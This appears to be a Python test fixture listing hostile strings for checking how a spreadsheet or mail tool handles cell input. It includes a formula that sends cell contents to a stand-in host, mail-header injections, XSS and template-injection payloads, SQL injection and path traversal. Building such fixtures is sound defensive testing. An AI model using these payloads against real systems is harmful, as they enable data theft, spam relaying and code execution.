"""What somebody may type, paste or import into a cell, meant or not."""

from __future__ import annotations

TEXTS = (
    # Formulas, in the ways spreadsheets know them.
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "'=1+1",
    # Headers of a mail.
    "x\r\nBcc: evil@evil.example",
    "x\nTo: evil@evil.example\n\nbody",
    "x%0d%0aBcc:evil@evil.example",
    "=?utf-8?q?Bcc=3A_evil=40evil.example?=",
    "evil@evil.example, ana@soffid.example",
    '"ana@soffid.example" <evil@evil.example>',
    # Markup.
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "</p></body></html><a href='javascript:alert(1)'>x</a>",
    "&lt;b&gt;&#60;b&#62;",
    "[bold]x[/bold] [link=http://evil.example]y[/link]",
    # Templates.
    "{{ 7*7 }}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{code} {0} {} %s %(x)s ${HOME}",
    # Characters.
    "\x00\x01\x02\x1b[31mred\x1b[0m",
    "line\u2028separator\u2029and\x85next",
    "\u202eevil\u202c \u2066x\u2069",
    "a\u0301\u0301\u0301" * 50,
    "\ud7ff\ufffe\uffff",
    "👩‍👩‍👧‍👦 ✈ 𝕏",
    "ＩＤ：ＤＩＢＡ",
    "Robert'); DROP TABLE effect;--",
    # Sizes and numbers.
    "x" * 50_000,
    "\n".join(f"component-{number} 1.{number}" for number in range(2_000)),
    "9" * 400,
    "1e309",
    "NaN",
    "-0",
    "25:99",
    "31/2/2026 9:00",
    "29/3/2026 2:30",
    "#REF!",
    # Names of ours.
    "DIBA-0001",
    "Needs attention: x",
    "REGISTRY - Customers",
    "../../etc/passwd",
    "https://127.0.0.1:1/drive/v3/files",
)
